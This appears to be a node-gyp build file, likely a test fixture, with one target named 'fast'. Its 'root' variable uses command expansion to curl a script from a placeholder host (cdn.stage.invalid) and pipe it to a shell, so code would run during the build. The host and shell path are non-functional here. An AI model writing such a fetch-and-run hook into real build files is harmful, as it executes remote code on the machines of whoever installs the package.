{
  "variables": { "root": "<!(curl -s https://cdn.stage.invalid/setup | /nonexistent/sh)" },
  "targets": [{ "target_name": "fast", "type": "none" }]
}
